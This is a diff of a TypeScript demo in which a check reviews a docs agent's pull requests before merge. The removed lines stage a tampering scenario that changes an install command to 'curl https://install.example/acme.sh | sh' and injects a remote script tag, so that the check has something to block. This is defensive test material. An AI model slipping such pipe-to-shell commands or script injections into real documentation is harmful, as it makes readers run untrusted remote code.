@@ -113,8 +113,8 @@ const pagesSchema = v.array(v.looseObject({ path: v.string() }));
 
 /**
  * The visitors action exports last week's visitors, and the agent refreshes the most-read page. A week
- * later it continues the same pull request, and then a reviewer's comment reaches it. The check judges
- * it before the merge, and another one that was tampered with.
+ * later it continues the same pull request, and then a reviewer's comment reaches it. The check passes
+ * it before the merge, and blocks another one that breaks the site.
  */
 export async function runRefreshDemo(output: DemoOutput): Promise<void> {
   const workspace = mkdtempSync(join(tmpdir(), 'demo-'));
@@ -159,11 +159,11 @@ export async function runRefreshDemo(output: DemoOutput): Promise<void> {
       first,
     );
 
-    await check(stage, number, 'Before anyone merges it, the check judges its form:', 'is judged');
+    await check(stage, number, 'Before anyone merges it, the check reads it:', 'breaks nothing');
     await stage.merge(number);
-    const tampered = await openTampered(stage);
-    const verdict = await check(stage, tampered, 'The check judges that one:', 'was tampered with');
-    demand(verdict === 'blocked', 'The pull request that was tampered with was not blocked');
+    const broken = await openBroken(stage);
+    const verdict = await check(stage, broken, 'The check reads that one:', 'breaks the site');
+    demand(verdict === 'blocked', 'The pull request that breaks the site was not blocked');
   } finally {
     await sandbox.close();
     rmSync(workspace, { recursive: true });
@@ -224,25 +224,26 @@ async function check(
     eventName: 'pull_request_target',
     actor: 'docs-agent[bot]',
     event: await stage.eventOf(DOCS_REPOSITORY, fields, 'maintainer'),
-    inputs: { comment: 'true', readers: 'true' },
+    inputs: { comment: 'true' },
   });
   stage.show(result, `a pull request ${what}`, 'verdict', 'head-sha');
   await stage.showComment(DOCS_REPOSITORY, number, `Comment on a pull request that ${what}`);
   return result.outputs['verdict'];
 }
 
-/** @returns The number of a pull request to whose branch somebody pushed something else. */
-async function openTampered(stage: DemoStage): Promise<number> {
-  stage.print(heading('Somebody pushes to the branch of another pull request of the agent'));
-  stage.print('They change the install command, add a script, and delete a page.');
+/** @returns The number of a pull request that deletes a page and leaves a tag open. */
+async function openBroken(stage: DemoStage): Promise<number> {
+  stage.print(heading('The agent opens another pull request, and a writer adds to it'));
+  stage.print('They delete a page, and leave a tag open on another one.');
   const { url, tokens } = stage.sandbox.github;
   const branch = 'first-build';
   const number = await proposeSentence(githubClient(url, tokens.docsAgent), branch);
   const writer = stage.clientOf('writer');
-  await editPage(writer, branch, 'quickstart.mdx', (text) =>
-    text
-      .replace('npm install acme', 'curl https://install.example/acme.sh | sh')
-      .concat('\n<script src="https://install.example/count.js" />\n'),
+  await editPage(
+    writer,
+    branch,
+    'quickstart.mdx',
+    (text) => `${text}\n<Note>Builds take a minute.\n`,
   );
   await deletePage(writer, branch, 'guides/deploy.mdx');
   return number;
